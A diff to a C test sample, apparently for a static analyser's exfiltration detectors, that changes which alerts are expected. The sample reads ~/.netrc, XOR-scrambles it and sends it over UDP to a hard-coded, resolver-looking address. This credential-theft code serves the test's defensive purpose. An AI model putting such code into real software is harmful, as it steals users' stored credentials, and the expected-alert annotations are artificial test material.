@@ -3,9 +3,10 @@
  * ~/.netrc, XOR-scrambles each block with a rolling key and sends it in
  * UDP datagrams with sendto to a hard-coded resolver-looking address. The
  * in-place XOR keeps the data flow visible, so taint.exfiltration reports
- * the sendto; as file content only (a note: the Login Data path is not one
- * of the secret patterns), which does not cover the behaviour's warning
- * about a credential store read and sent, so both report.
+ * the sendto, as a secret sent (an error): the helper reads the file it is
+ * given, and main gives it ~/.netrc, a credential store (the Login Data
+ * path is not one of the secret patterns). That error covers the
+ * behaviour's warning, which is not reported beside it.
  */
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -34,7 +35,7 @@ static void ship_file(const char *path)
         return;
     while ((n = fread(block, 1, sizeof(block), f)) > 0) {
         scramble(block, n);
-        sendto(sock, block, n, 0, (struct sockaddr *)&peer, sizeof(peer)); // $ Alert[taint.exfiltration] Alert[behavior.exfiltration]
+        sendto(sock, block, n, 0, (struct sockaddr *)&peer, sizeof(peer)); // $ Alert[taint.exfiltration]
     }
     fclose(f);
 }
